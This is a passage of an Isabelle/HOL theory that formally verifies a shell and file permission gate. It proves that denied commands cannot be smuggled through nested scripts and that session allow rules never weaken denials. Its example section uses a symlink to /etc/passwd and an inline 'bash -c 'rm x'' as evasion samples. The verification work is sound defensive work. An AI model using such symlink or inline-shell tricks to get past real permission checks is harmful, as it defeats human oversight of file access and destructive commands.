    by (intro ext) (simp only: segment_allowed_def assms)
  have "chain_allowed env p = chain_allowed env q"
    by (intro ext) (simp only: chain_allowed_def r g)
  then show ?thesis by (induction d) simp_all
qed

text \<open>What the rules alone say, by rank.\<close>

lemma lexical_session:
  "map_option decision_rank (evaluate_lexical_with_cwd env (session_policy env cfg s) access cwd) =
     (if \<exists>r\<in>set (rules cfg @ s). hit env access cwd r \<and> action r = Deny then Some 3
      else if \<exists>r\<in>set (rules cfg @ s). hit env access cwd r \<and> action r = Ask then Some 2
      else if (case access of
                 Bash cmd \<Rightarrow> bash_allow_rules (rules cfg @ s) \<and>
                   bash_chain_fully_allowed env (session_policy env cfg s) AnyScope MAX_INLINE_SHELL_DEPTH cmd
               | _ \<Rightarrow> \<exists>r\<in>set (rules cfg @ s). hit env access cwd r \<and> action r = Allow)
      then Some 1 else None)"
proof (cases "\<exists>r\<in>set (rules cfg @ s). hit env access cwd r \<and> action r = Deny")
  case True
  then show ?thesis
    using rules_loop_deny [OF True, of False False]
    by (auto simp: evaluate_lexical_with_cwd_def zip_compiled simp del: map_append)
next
  case False
  show ?thesis
    unfolding evaluate_lexical_with_cwd_def session_policy_sel zip_compiled rules_loop_pass [OF False]
    using False by (cases access) simp_all
qed

section \<open>Policies of a session\<close>

inductive session_run :: "policy_env \<Rightarrow> permission_config \<Rightarrow> compiled_policy \<Rightarrow> bool" for env cfg where
  start: "session_run env cfg (policy_new env cfg)"
| appended: "session_run env cfg pol \<Longrightarrow> session_run env cfg (append_rules env rs pol)"
| reset: "session_run env cfg pol \<Longrightarrow> session_run env cfg (fst (reset_session_rules env pol))"

lemma append_session: "append_rules env rs (session_policy env cfg s) = session_policy env cfg (s @ rs)"
  by (simp add: append_rules_def session_policy_def policy_new_def refresh_derived_gates_def)

lemma reset_session:
  "reset_session_rules env (session_policy env cfg s) = (session_policy env cfg [], length s)"
  by (simp add: reset_session_rules_def session_policy_def policy_new_def refresh_derived_gates_def Let_def)

lemma session_run_form: "session_run env cfg pol \<Longrightarrow> \<exists>s. pol = session_policy env cfg s"
proof (induction rule: session_run.induct)
  case start
  show ?case using session_policy_Nil by metis
qed (auto simp: append_session reset_session)

lemma only_restrictive_append:
  assumes "list_all (\<lambda>r. action r = Allow) rs"
  shows "only_restrictive (evaluate_lexical_with_cwd env (session_policy env cfg (s @ rs)) access cwd) =
         only_restrictive (evaluate_lexical_with_cwd env (session_policy env cfg s) access cwd)"
proof -
  let ?loop = "\<lambda>l. rules_loop env access cwd (compiled_rules env l) False False"
  have l: "?loop (rules cfg @ s @ rs) =
      (case ?loop (rules cfg @ s) of
         Inl r \<Rightarrow> Inl r | Inr (a, b) \<Rightarrow> rules_loop env access cwd (compiled_rules env rs) a b)"
    using rules_loop_append [of env access cwd "compiled_rules env (rules cfg @ s)" "compiled_rules env rs"]
    by simp
  show ?thesis
  proof (cases "?loop (rules cfg @ s)")
    case (Inl r)
    with l show ?thesis
      by (simp add: evaluate_lexical_with_cwd_def zip_compiled del: map_append)
  next
    case (Inr ab)
    obtain a b where ab: "ab = (a, b)" by (cases ab)
    obtain b' where "rules_loop env access cwd (compiled_rules env rs) a b = Inr (a, b')"
      using rules_loop_allows [OF assms] by metis
    with l Inr ab show ?thesis
      by (cases access) (simp_all add: evaluate_lexical_with_cwd_def zip_compiled only_restrictive_def
          del: map_append)
  qed
qed

lemma only_restrictive_combine:
  "only_restrictive (combine_decisions x (only_restrictive y)) =
     combine_decisions (only_restrictive x) (only_restrictive y)"
  if "x \<in> {None, Some DAllow, Some DAsk} \<union> range (\<lambda>r. Some (Reject r))"
  using that by (cases y rule: option.exhaust; cases "the y") (auto simp: only_restrictive_def)

lemma lexical_range:
  "evaluate_lexical_with_cwd env pol access cwd \<in> {None, Some DAllow, Some DAsk} \<union> range (\<lambda>r. Some (Reject r))"
  by (auto simp: evaluate_lexical_with_cwd_def split: sum.split prod.split access_kind.split)

lemma restrictions_append:
  "list_all (\<lambda>r. action r = Allow) rs \<Longrightarrow>
   native_path_restrictions_apply (session_policy env cfg (s @ rs)) access =
   native_path_restrictions_apply (session_policy env cfg s) access"
  by (auto simp: native_path_restrictions_apply_def restrictive_def list_all_iff list_ex_iff)

text \<open>Where the path of an access leads, with \<open>NoFollow\<close> for the accesses that name no path.\<close>

definition link_target :: "policy_env \<Rightarrow> access_kind \<Rightarrow> string option \<Rightarrow> symlink_follow" where
  "link_target env access cwd =
     (case Option.bind (native_file_path access)
             (\<lambda>p. map_option (\<lambda>raw. (p, raw)) (raw_absolute_tool_path p cwd)) of
        None \<Rightarrow> NoFollow
      | Some (p, raw) \<Rightarrow>
          follow_absolute_symlink (links env) raw (path_match_string (absolute_normalized_path p cwd)))"

lemma evaluate_shape:
  "evaluate_with_cwd env pol access cwd =
     (let l = evaluate_lexical_with_cwd env pol access cwd
      in case link_target env access cwd of
           NoFollow \<Rightarrow> l
         | Target t \<Rightarrow> combine_decisions l
             (only_restrictive (evaluate_lexical_with_cwd env pol (access_with_path access t) cwd))
         | Unresolvable \<Rightarrow>
             (if native_path_restrictions_apply pol access then combine_decisions l (Some DAsk) else l))"
  by (cases "native_file_path access"; cases "raw_absolute_tool_path (the (native_file_path access)) cwd")
    (simp_all add: evaluate_with_cwd_def evaluate_with_cwd_details_def link_target_def Let_def
      split: symlink_follow.split)

lemma link_target_Bash [simp]: "link_target env (Bash cmd) cwd = NoFollow"
  by (simp add: link_target_def native_file_path_def)

lemma combine_rank:
  "map_option decision_rank (combine_decisions x y) =
     (case map_option decision_rank x of
        None \<Rightarrow> map_option decision_rank y
      | Some a \<Rightarrow> (case map_option decision_rank y of None \<Rightarrow> Some a | Some b \<Rightarrow> Some (max a b)))"
  by (cases x; cases y) (auto simp: max_def)

lemma only_restrictive_rank:
  "x \<in> {None, Some DAllow, Some DAsk} \<union> range (\<lambda>r. Some (Reject r)) \<Longrightarrow>
   map_option decision_rank (only_restrictive x) =
     Option.bind (map_option decision_rank x) (\<lambda>n. if 2 \<le> n then Some n else None)"
  by (auto simp: only_restrictive_def)

section \<open>What a policy decides\<close>

text \<open>C11: The verdict on an access depends on which rules a policy has, never on their order or on
  repetitions: two configurations with the same set of rules give verdicts of the same severity to every
  access, shell scripts and paths behind symbolic links included.\<close>

theorem evaluation_order_independent:
  assumes "set (rules c) = set (rules c')"
  shows "map_option decision_rank (evaluate_with_cwd env (policy_new env c) access cwd) =
         map_option decision_rank (evaluate_with_cwd env (policy_new env c') access cwd)"
proof -
  let ?p = "session_policy env c []" and ?q = "session_policy env c' []"
  have "bash_words_allowed env ?p = bash_words_allowed env ?q"
    by (intro ext) (simp add: words_allowed_session assms)
  note chain = chain_allowed_cong [OF this]
  have "bash_allow_rules (rules c) = bash_allow_rules (rules c')"
    by (simp add: bash_allow_rules_def list_ex_iff assms)
  then have lex: "map_option decision_rank (evaluate_lexical_with_cwd env ?p a cwd) =
      map_option decision_rank (evaluate_lexical_with_cwd env ?q a cwd)" for a
    by (cases a) (simp_all add: lexical_session assms chain)
  have native: "native_path_restrictions_apply ?p access = native_path_restrictions_apply ?q access"
    by (simp add: native_path_restrictions_apply_def list_ex_iff assms)
  have res: "map_option decision_rank (only_restrictive (evaluate_lexical_with_cwd env ?p a cwd)) =
      map_option decision_rank (only_restrictive (evaluate_lexical_with_cwd env ?q a cwd))" for a
    by (simp only: only_restrictive_rank [OF lexical_range] lex)
  show ?thesis
    unfolding session_policy_Nil [symmetric] evaluate_shape Let_def native
    by (cases "link_target env access cwd")
      (simp_all only: symlink_follow.case combine_rank lex res if_distrib [of "map_option decision_rank"])
qed

text \<open>C13: Allow rules appended during a session change no deny and no ask verdict: whatever was appended and
  reset before, every access is rejected, for the same reason, or asked about exactly as without them.\<close>

theorem session_allows_never_weaken:
  assumes "session_run env cfg pol" "list_all (\<lambda>r. action r = Allow) rs"
  shows "only_restrictive (evaluate_with_cwd env (append_rules env rs pol) access cwd) =
         only_restrictive (evaluate_with_cwd env pol access cwd)"
proof -
  obtain s where s: "pol = session_policy env cfg s" using session_run_form assms(1) by blast
  have ask: "only_restrictive (combine_decisions x (Some DAsk)) = combine_decisions (only_restrictive x) (Some DAsk)"
    if "x \<in> {None, Some DAllow, Some DAsk} \<union> range (\<lambda>r. Some (Reject r))" for x
    using that by (auto simp: only_restrictive_def)
  show ?thesis
    unfolding s append_session evaluate_shape Let_def
    by (cases "link_target env access cwd")
      (simp_all add: only_restrictive_combine [OF lexical_range] ask [OF lexical_range]
        only_restrictive_append [OF assms(2)] restrictions_append [OF assms(2)])
qed

text \<open>C12: Resetting the session rules gives back the policy compiled from the configuration, whatever was
  appended and reset before, and reports how many rules it dropped.\<close>

theorem reset_restores_policy:
  assumes "session_run env cfg pol"
  shows "reset_session_rules env pol = (policy_new env cfg, length (rules (config pol)) - length (rules cfg))"
proof -
  obtain s where "pol = session_policy env cfg s" using session_run_form assms by blast
  then show ?thesis by (simp add: reset_session session_policy_Nil)
qed


section \<open>Every command of a script\<close>

text \<open>The commands a script runs, as far as the analysis sees them: those of its segments without their
  wrappers, those recovered when it is not made of plain words, and those of inline scripts at nesting
  \<open>k\<close>, with \<open>packed\<close> also those in a split string of \<open>env\<close>.\<close>

abbreviation inner_of :: "plain_command \<Rightarrow> string list" where
  "inner_of s \<equiv> norm_words (normalize_command_words (pc_words s))"

inductive runs :: "policy_env \<Rightarrow> bool \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> string list \<Rightarrow> bool" for env packed where
  plain: "all_commands_from_script (shell_parse env) cmd = Some segs \<Longrightarrow> s \<in> set segs \<Longrightarrow>
     runs env packed 0 cmd (inner_of s)"
| recovered: "all_commands_from_script (shell_parse env) cmd = None \<Longrightarrow> shell_parse env cmd = Some t \<Longrightarrow>
     ws \<in> set (projections (analyze t cmd)) \<Longrightarrow> runs env packed 0 cmd ws"
| inline: "all_commands_from_script (shell_parse env) cmd = Some segs \<Longrightarrow> s \<in> set segs \<Longrightarrow>
     shell_dash_c_script (map ShLiteral (inner_of s)) = LiteralAt i \<Longrightarrow>
     runs env packed k (inner_of s ! i) ws \<Longrightarrow> runs env packed (Suc k) cmd ws"
| split_string: "packed \<Longrightarrow> all_commands_from_script (shell_parse env) cmd = Some segs \<Longrightarrow> s \<in> set segs \<Longrightarrow>
     env_split_string_script (inner_of s) = Some script \<Longrightarrow>
     runs env packed k script ws \<Longrightarrow> runs env packed (Suc k) cmd ws"

declare dash_c_loop.simps [simp del]

text \<open>What one word does to the loop: it ends with a verdict that is no index, ends at this or the next
  word, or goes on one or two words later.\<close>

lemma dash_c_loop_step:
  assumes "P UntrustedScript" "P Unrecognized" "P NotInline" "P (LiteralAt i)"
    and "ws \<noteq> [] \<Longrightarrow> P (LiteralAt (i + 1))"
    and "\<And>c u. P (dash_c_loop dyn ws (i + 1) c u)"
    and "\<And>v ws' c u. ws = v # ws' \<Longrightarrow> P (dash_c_loop dyn ws' (i + 2) c u)"
  shows "P (dash_c_loop dyn (ShLiteral w # ws) i saw_c unrec)"
proof -
  have e: "P (no_script b)" "P (ambiguous_script b)" "P (finish_literal b i)"
    "ws \<noteq> [] \<Longrightarrow> P (finish_literal b (i + 1))" for b
    using assms by (simp_all add: no_script_def ambiguous_script_def finish_literal_def)
  show ?thesis
  proof (cases ws)
    case Nil
    show ?thesis unfolding dash_c_loop.simps(3) using e assms unfolding Nil by simp
  next
    case (Cons v vs)
    show ?thesis
      unfolding dash_c_loop.simps(3) using e assms(1-6) assms(7) [OF Cons] unfolding Cons
      by (cases v) simp_all
  qed
qed

lemma dash_c_loop_index:
  "dash_c_loop dyn ws i saw_c unrec = LiteralAt j \<longrightarrow> i \<le> j \<and> j < i + length ws"
proof (induction "length ws" arbitrary: ws i saw_c unrec rule: less_induct)
  case less
  show ?case
  proof (cases ws)
    case (Cons w vs)
    show ?thesis
    proof (cases w)
      case (ShLiteral x)
      have IH: "dash_c_loop dyn us (i + n) c u = LiteralAt j \<longrightarrow> i + n \<le> j \<and> j < i + n + length us"
        if "length us < length ws" for us n c u using less [OF that] .
      show ?thesis
        unfolding Cons ShLiteral
      proof (rule dash_c_loop_step [where P = "\<lambda>r. r = LiteralAt j \<longrightarrow> i \<le> j \<and> j < i + length (ShLiteral x # vs)"])
        show "dash_c_loop dyn vs (i + 1) c u = LiteralAt j \<longrightarrow> i \<le> j \<and> j < i + length (ShLiteral x # vs)" for c u
          using IH [of vs 1 c u] Cons by auto
        show "dash_c_loop dyn vs' (i + 2) c u = LiteralAt j \<longrightarrow> i \<le> j \<and> j < i + length (ShLiteral x # vs)"
          if "vs = v # vs'" for v vs' c u
          using IH [of vs' 2 c u] Cons that by auto
      qed (auto simp: neq_Nil_conv)
    qed (simp add: Cons dash_c_loop.simps ambiguous_script_def)
  qed (simp add: dash_c_loop.simps no_script_def)
qed

text \<open>The index of an inline script is one of the words after the shell: indexing the words cannot panic.\<close>

lemma inline_index_in_range:
  assumes "shell_dash_c_script words = LiteralAt i"
  shows "0 < i \<and> i < length words"
proof (cases words)
  case (Cons w ws)
  with assms dash_c_loop_index [of True ws 1 False False i] dash_c_loop_index [of False ws 1 False False i]
  show ?thesis
    by (cases w) (simp_all add: shell_dash_c_script_def split: if_splits)
qed (use assms in \<open>simp add: shell_dash_c_script_def\<close>)

lemma segment_allowed_inline:
  "segment_allowed env pol scope recurse words \<Longrightarrow>
   shell_dash_c_script (map ShLiteral (norm_words (normalize_command_words words))) = LiteralAt i \<Longrightarrow>
   \<exists>f. recurse = Some f \<and> f (norm_words (normalize_command_words words) ! i)"
  by (cases recurse) (simp_all add: segment_allowed_def Let_def)

lemma chain_allowed_segment:
  "chain_allowed env pol scope recurse cmd \<Longrightarrow> all_commands_from_script (shell_parse env) cmd = Some segs \<Longrightarrow>
   s \<in> set segs \<Longrightarrow> segment_allowed env pol scope recurse (pc_words s)"
  by (simp add: chain_allowed_def list_all_iff)

lemma chain_allowed_runs:
  assumes "runs env False k cmd ws" "bash_chain_fully_allowed env pol scope d cmd"
  shows "bash_words_allowed env pol scope ws \<and> k \<le> d"
  using assms
proof (induction arbitrary: d rule: runs.induct)
  case (plain cmd segs s)
  then show ?case
    by (cases d) (auto dest!: chain_allowed_segment simp: segment_allowed_def Let_def)
next
  case (recovered cmd t ws)
  then show ?case
    by (cases d) (auto simp: chain_allowed_def recovered_commands_def Let_def list_all_iff)
next
  case (inline cmd segs s i k ws)
  obtain recurse where r: "segment_allowed env pol scope recurse (pc_words s)"
    "recurse = (case d of 0 \<Rightarrow> None | Suc e \<Rightarrow> Some (bash_chain_fully_allowed env pol scope e))"
    using inline.prems inline.hyps(1,2) by (cases d) (auto dest: chain_allowed_segment)
  obtain f where f: "recurse = Some f" "f (inner_of s ! i)"
    using segment_allowed_inline [OF r(1) inline.hyps(3)] by blast
  with r(2) inline.IH show ?case by (cases d) auto
qed simp

text \<open>C7: A script is allowed only if every command in it is: when a policy allows a shell command, each
  command it runs, in every segment and in every inline script at any depth, matches one of the allow
  rules by itself, and no deny and no ask rule applies to the script.\<close>

theorem allowed_script_fully_covered:
  assumes "session_run env cfg pol" "evaluate env pol (Bash cmd) = Some DAllow" "runs env False k cmd ws"
  shows "ws \<noteq> [] \<and>
         (\<exists>r\<in>set (rules (config pol)). action r = Allow \<and> tool r \<in> {FBash, FAny} \<and>
            bash_allow_pattern_matches env (join '' '' ws) r (compile_matcher env r)) \<and>
         (\<forall>r\<in>set (rules (config pol)). hit env (Bash cmd) None r \<longrightarrow> action r = Allow)"
proof -
  obtain s where s: "pol = session_policy env cfg s" using session_run_form assms(1) by blast
  have "evaluate_lexical_with_cwd env pol (Bash cmd) None = Some DAllow"
    using assms(2) by (simp add: evaluate_def evaluate_shape Let_def)
  then have "map_option decision_rank (evaluate_lexical_with_cwd env pol (Bash cmd) None) = Some 1" by simp
  then have chain: "bash_chain_fully_allowed env pol AnyScope MAX_INLINE_SHELL_DEPTH cmd"
    and clear: "\<not> (\<exists>r\<in>set (rules cfg @ s). hit env (Bash cmd) None r \<and> action r = Deny)"
      "\<not> (\<exists>r\<in>set (rules cfg @ s). hit env (Bash cmd) None r \<and> action r = Ask)"
    unfolding s lexical_session by (auto split: if_splits)
  have "bash_words_allowed env pol AnyScope ws" using chain_allowed_runs [OF assms(3) chain] by blast
  moreover have "action r = Allow" if "r \<in> set (rules cfg @ s)" "hit env (Bash cmd) None r" for r
    using clear that by (cases "action r") auto
  ultimately show ?thesis unfolding s words_allowed_session by auto
qed

lemma escalate_deny:
  assumes "r \<in> set (rules cfg @ s)" "action r = Deny" "hit env (Bash seg) None r"
  shows "cg.at_least 3 (escalate env (session_policy env cfg s) seg)"
proof -
  have "\<exists>r\<in>set (rules cfg @ s). hit env (Bash seg) None r \<and> action r = Deny" using assms by blast
  from rules_loop_deny [OF this, of False False] show ?thesis
    unfolding escalate_def evaluate_def evaluate_shape evaluate_lexical_with_cwd_def session_policy_sel
      zip_compiled
    by (auto simp: cg.at_least_def)
qed

lemma at_least_fail_closed [simp]: "cg.at_least (Suc 0) (Some AskFailClosed)"
  by (simp add: cg.at_least_def)

lemma at_least_mono: "cg.at_least m x \<Longrightarrow> n \<le> m \<Longrightarrow> cg.at_least n x"
  by (auto simp: cg.at_least_def)

lemma norm_same_length:
  "length (norm_words (normalize_command_words ws)) = length ws \<Longrightarrow> norm_words (normalize_command_words ws) = ws"
  using peel_steps_suffix [OF normalize_steps [of ws]] suffix_same_length by blast

text \<open>No part of the verdict on one command is lost.\<close>

lemma command_words_at_least:
  "cg.at_least n (evaluate_command_words env pol recurse ws) \<longleftrightarrow>
     (let norm = normalize_command_words ws; inner = norm_words norm
      in cg.at_least n (fail_closed_if (norm_exhausted norm \<or> norm_ambiguous norm \<or> norm_uncertain norm)) \<or>
         cg.at_least n (fail_closed_if (norm_split norm)) \<or>
         cg.at_least n (escalate env pol (join '' '' ws)) \<or>
         (length inner \<noteq> length ws \<and> cg.at_least n (escalate env pol (join '' '' inner))) \<or>
         (case shell_dash_c_script (map ShLiteral inner) of
            LiteralAt i \<Rightarrow> cg.at_least n (inline_gate recurse (inner ! i))
          | NotInline \<Rightarrow> False
          | _ \<Rightarrow> cg.at_least n (Some AskFailClosed)) \<or>
         (case env_split_string_script inner of
            None \<Rightarrow> False
          | Some script \<Rightarrow> cg.at_least n (inline_gate recurse script)))"
proof -
  define norm where "norm = normalize_command_words ws"
  show ?thesis
    unfolding evaluate_command_words_def Let_def norm_def [symmetric]
    by (cases "shell_dash_c_script (map ShLiteral (norm_words norm))";
        cases "env_split_string_script (norm_words norm)";
        cases "length (norm_words norm) = length ws")
      (simp_all only: inline_shell_script.case option.case cg.at_least_combine simp_thms if_True if_False disj_assoc)
qed

lemma command_words_raw:
  "cg.at_least n (escalate env pol (join '' '' ws)) \<Longrightarrow> cg.at_least n (evaluate_command_words env pol recurse ws)"
  unfolding command_words_at_least Let_def by blast

lemma command_words_inner:
  "cg.at_least n (escalate env pol (join '' '' (norm_words (normalize_command_words ws)))) \<Longrightarrow>
   cg.at_least n (evaluate_command_words env pol recurse ws)"
  unfolding command_words_at_least Let_def
  by (cases "length (norm_words (normalize_command_words ws)) = length ws") (metis norm_same_length, blast)

lemma command_words_inline:
  "shell_dash_c_script (map ShLiteral (norm_words (normalize_command_words ws))) = LiteralAt i \<Longrightarrow>
   cg.at_least n (inline_gate recurse (norm_words (normalize_command_words ws) ! i)) \<Longrightarrow>
   cg.at_least n (evaluate_command_words env pol recurse ws)"
  unfolding command_words_at_least Let_def by (simp only: inline_shell_script.case simp_thms)

lemma command_words_split:
  "env_split_string_script (norm_words (normalize_command_words ws)) = Some script \<Longrightarrow>
   cg.at_least n (inline_gate recurse script) \<Longrightarrow> cg.at_least n (evaluate_command_words env pol recurse ws)"
  unfolding command_words_at_least Let_def by (simp only: option.case simp_thms)

lemma segments_gate_segment:
  "all_commands_from_script (shell_parse env) cmd = Some segs \<Longrightarrow> s \<in> set segs \<Longrightarrow>
   cg.at_least n (evaluate_command_words env pol recurse (pc_words s)) \<Longrightarrow>
   cg.at_least n (segments_gate env pol recurse cmd)"
  by (auto simp: segments_gate_def cg.at_least_fold)

lemma segments_gate_recovered:
  "all_commands_from_script (shell_parse env) cmd = None \<Longrightarrow> shell_parse env cmd = Some t \<Longrightarrow>
   ws \<in> set (projections (analyze t cmd)) \<Longrightarrow> cg.at_least n (evaluate_command_words env pol recurse ws) \<Longrightarrow>
   cg.at_least n (segments_gate env pol recurse cmd)"
  by (auto simp: segments_gate_def recovered_commands_def Let_def cg.at_least_fold)

abbreviation next_level :: "policy_env \<Rightarrow> compiled_policy \<Rightarrow> nat \<Rightarrow> (string \<Rightarrow> gate_decision option) option" where
  "next_level env pol d \<equiv>
     (case d of 0 \<Rightarrow> None | Suc e \<Rightarrow> Some (evaluate_bash_command_segments env pol e))"

lemma segments_level: "evaluate_bash_command_segments env pol d = segments_gate env pol (next_level env pol d)"
  by (cases d) simp_all

lemma inline_gate_level:
  assumes "\<And>e. cg.at_least (if k \<le> e then 3 else 1) (evaluate_bash_command_segments env pol e script)"
  shows "cg.at_least (if Suc k \<le> d then 3 else 1) (inline_gate (next_level env pol d) script)"
  using assms [of "d - 1"] by (cases d) (simp_all add: inline_gate_def)

lemma gate_runs:
  assumes "runs env True k cmd ws" "cg.at_least 3 (escalate env pol (join '' '' ws))"
  shows "cg.at_least (if k \<le> d then 3 else 1) (evaluate_bash_command_segments env pol d cmd)"
  using assms
proof (induction arbitrary: d rule: runs.induct)
  case (plain cmd segs s)
  have "cg.at_least 3 (evaluate_bash_command_segments env pol d cmd)"
    by (subst segments_level, rule segments_gate_segment [OF plain.hyps], rule command_words_inner, rule plain.prems)
  then show ?case by simp
next
  case (recovered cmd t ws)
  have "cg.at_least 3 (evaluate_bash_command_segments env pol d cmd)"
    by (subst segments_level, rule segments_gate_recovered [OF recovered.hyps], rule command_words_raw, rule recovered.prems)
  then show ?case by simp
next
  case (inline cmd segs s i k ws)
  show ?case
    by (subst segments_level, rule segments_gate_segment [OF inline.hyps(1,2)], rule command_words_inline [OF inline.hyps(3)],
        rule inline_gate_level, rule inline.IH [OF inline.prems])
next
  case (split_string cmd segs s script k ws)
  show ?case
    by (subst segments_level, rule segments_gate_segment [OF split_string.hyps(2,3)], rule command_words_split [OF split_string.hyps(4)],
        rule inline_gate_level, rule split_string.IH [OF split_string.prems])
qed

text \<open>C2: A denied command cannot hide in a script: when a deny rule applies to any command a script runs,
  behind wrappers, in a later segment, in an inline script or in a split string of \<open>env\<close>, the gate rejects
  the script if the command is nested at most eight scripts deep, and still stops it with a question when
  it is nested deeper.\<close>

theorem denied_command_stopped:
  assumes "session_run env cfg pol" "runs env True k cmd ws"
    and "r \<in> set (rules (config pol))" "action r = Deny" "tool r \<in> {FBash, FAny}" "hit env (Bash (join '' '' ws)) None r"
  shows "(k \<le> MAX_INLINE_SHELL_DEPTH \<longrightarrow>
            (\<exists>reason. evaluate_bash_command_policy env pol cmd = Some (Reject reason))) \<and>
         (\<exists>d. evaluate_bash_command_policy env pol cmd = Some d \<and> 2 \<le> decision_rank d)"
proof -
  obtain s where s: "pol = session_policy env cfg s" using session_run_form assms(1) by blast
  have "cg.at_least 3 (escalate env pol (join '' '' ws))"
    using escalate_deny assms(3-6) unfolding s by simp
  from gate_runs [OF assms(2) this, of MAX_INLINE_SHELL_DEPTH]
  obtain g where g: "evaluate_bash_command_segments env pol MAX_INLINE_SHELL_DEPTH cmd = Some g"
    "(if k \<le> MAX_INLINE_SHELL_DEPTH then 3 else 1) \<le> gate_rank g"
    by (auto simp: cg.at_least_def)
  have "has_bash_command_restrictions pol"
    using assms(3-5) unfolding s by (auto simp: bash_command_restrictions_def restrictive_def list_ex_iff)
  with g show ?thesis
    by (cases g) (auto simp: evaluate_bash_command_policy_def evaluate_bash_command_gate_def split: if_splits)
qed

section \<open>An example environment\<close>

text \<open>Patterns without wildcards, whose globs match their own text only; the trees of three scripts; one
  link, from \<open>/w/log\<close> to \<open>/etc/passwd\<close>.\<close>

definition inline_script :: string where
  "inline_script = ''bash -c '' @ [sq] @ ''rm x'' @ [sq]"

definition inline_tree :: tree where
  "inline_tree =
     \<lparr>root_node = Node ''program'' True [] 0 14
        [Node ''command'' True [] 0 14
          [Node ''command_name'' True [] 0 4 [word_node 0 4], word_node 5 7, Node ''raw_string'' True [] 8 14 []]],
      has_error = False\<rparr>"

definition two_word_tree :: "nat \<Rightarrow> tree" where
  "two_word_tree n =
     \<lparr>root_node = Node ''program'' True [] 0 (n + 2)
        [Node ''command'' True [] 0 (n + 2)
          [Node ''command_name'' True [] 0 n [word_node 0 n], word_node (n + 1) (n + 2)]],
      has_error = False\<rparr>"

definition escaped_script :: string where
  "escaped_script = ''r'' @ [CHR 0x5C] @ ''m x''"

definition example_parser :: shell_parser where
  "example_parser s =
     (if s = example_script then Some example_tree
      else if s = inline_script then Some inline_tree
      else if s = ''rm x'' then Some (two_word_tree 2)
      else if s = escaped_script then Some (two_word_tree 3)
      else None)"

definition example_links :: link_fs where
  "example_links =
     \<lparr>fs_canonicalize = (\<lambda>p. if p = ''/w/log'' then Some ''/etc/passwd'' else None),
      symlink_metadata = (\<lambda>p. if p = ''/w/log'' then IsSymlink else LstatNotFound),
      read_link = (\<lambda>p. if p = ''/w/log'' then Some ''/etc/passwd'' else None)\<rparr>"

definition example_env :: policy_env where
  "example_env =
     \<lparr>glob_new = (\<lambda>p. if CHR ''*'' \<in> set p then None else Some (\<lambda>b t. t = p)), url_host = (\<lambda>u. None),
      lowercase = to_ascii_lowercase, links = example_links, shell_parse = example_parser\<rparr>"

definition rule_on :: "rule_action \<Rightarrow> tool_filter \<Rightarrow> string \<Rightarrow> permission_rule" where
  "rule_on a f p = \<lparr>action = a, tool = f, pattern = Some p, pmode = Glob\<rparr>"

definition example_config :: permission_config where
  "example_config = config_new [rule_on Allow FBash ''ls'', rule_on Allow FBash ''rm'']"

definition deny_config :: permission_config where
  "deny_config = config_new [rule_on Deny FBash ''rm'']"

definition link_config :: permission_config where
  "link_config = config_new [rule_on Allow FRead ''/w/log'', rule_on Deny FRead ''/etc/passwd'']"

theorem evaluation_order_independent_witness:
  "let c = config_new [rule_on Deny FBash ''rm'', rule_on Allow FBash ''rm''];
       c' = config_new [rule_on Allow FBash ''rm'', rule_on Deny FBash ''rm'', rule_on Allow FBash ''rm'']
   in set (rules c) = set (rules c') \<and>
      map_option decision_rank (evaluate_with_cwd example_env (policy_new example_env c') (Bash ''rm x'') None) = Some 3"
proof -
  let ?c = "config_new [rule_on Deny FBash ''rm'', rule_on Allow FBash ''rm'']"
  let ?d = "config_new [rule_on Allow FBash ''rm'', rule_on Deny FBash ''rm'', rule_on Allow FBash ''rm'']"
  have s: "set (rules ?c) = set (rules ?d)" by (auto simp: config_new_def)
  have "map_option decision_rank (evaluate_with_cwd example_env (policy_new example_env ?c) (Bash ''rm x'') None) = Some 3"
    by code_simp
  with s show ?thesis using evaluation_order_independent [OF s, of example_env] by (simp add: Let_def)
qed

theorem session_allows_never_weaken_witness:
  "\<exists>reason. only_restrictive (evaluate_with_cwd example_env
     (append_rules example_env [rule_on Allow FAny ''*''] (policy_new example_env deny_config)) (Bash ''rm x'') None)
     = Some (Reject reason)"
proof -
  have a: "list_all (\<lambda>r. action r = Allow) [rule_on Allow FAny ''*'']" by (simp add: rule_on_def)
  have "only_restrictive (evaluate_with_cwd example_env (policy_new example_env deny_config) (Bash ''rm x'') None)
    = Some (Reject (deny_reason (rule_on Deny FBash ''rm'')))"
    by code_simp
  then show ?thesis using session_allows_never_weaken [OF session_run.start a] by simp
qed

theorem reset_restores_policy_witness:
  "reset_session_rules example_env
     (append_rules example_env [rule_on Allow FAny ''*''] (policy_new example_env deny_config))
   = (policy_new example_env deny_config, 1)"
  using reset_restores_policy [OF session_run.appended [OF session_run.start],
      of example_env "[rule_on Allow FAny ''*'']" deny_config]
  by (simp add: append_rules_def refresh_derived_gates_def policy_new_def)


theorem allowed_script_fully_covered_witness:
  "evaluate example_env (policy_new example_env example_config) (Bash example_script) = Some DAllow \<and>
   (\<exists>r\<in>set (rules (config (policy_new example_env example_config))). action r = Allow \<and>
      bash_allow_pattern_matches example_env ''rm x'' r (compile_matcher example_env r))"
proof -
  have e: "evaluate example_env (policy_new example_env example_config) (Bash example_script) = Some DAllow"
    by code_simp
  have c: "all_commands_from_script (shell_parse example_env) example_script =
     Some [\<lparr>pc_words = [''ls'', ''-l''], span_start = 0, span_end = 5\<rparr>,
           \<lparr>pc_words = [''rm'', ''x''], span_start = 9, span_end = 13\<rparr>]"
    by code_simp
  have n: "norm_words (normalize_command_words [''rm'', ''x'']) = [''rm'', ''x'']" by code_simp
  have "runs example_env False 0 example_script [''rm'', ''x'']"
    using runs.plain [OF c, of "\<lparr>pc_words = [''rm'', ''x''], span_start = 9, span_end = 13\<rparr>"] n by simp
  moreover have "join '' '' [''rm'', ''x''] = ''rm x''" by code_simp
  ultimately show ?thesis
    using e allowed_script_fully_covered [OF session_run.start e] by metis
qed

theorem denied_command_stopped_witness:
  "\<exists>reason. evaluate_bash_command_policy example_env (policy_new example_env deny_config) inline_script
     = Some (Reject reason)"
proof -
  let ?o = "\<lparr>pc_words = [''bash'', ''-c'', ''rm x''], span_start = 0, span_end = 14\<rparr>"
  let ?i = "\<lparr>pc_words = [''rm'', ''x''], span_start = 0, span_end = 4\<rparr>"
  have o: "all_commands_from_script (shell_parse example_env) inline_script = Some [?o]" by code_simp
  have i: "all_commands_from_script (shell_parse example_env) ''rm x'' = Some [?i]" by code_simp
  have n: "norm_words (normalize_command_words [''bash'', ''-c'', ''rm x'']) = [''bash'', ''-c'', ''rm x'']"
    "norm_words (normalize_command_words [''rm'', ''x'']) = [''rm'', ''x'']"
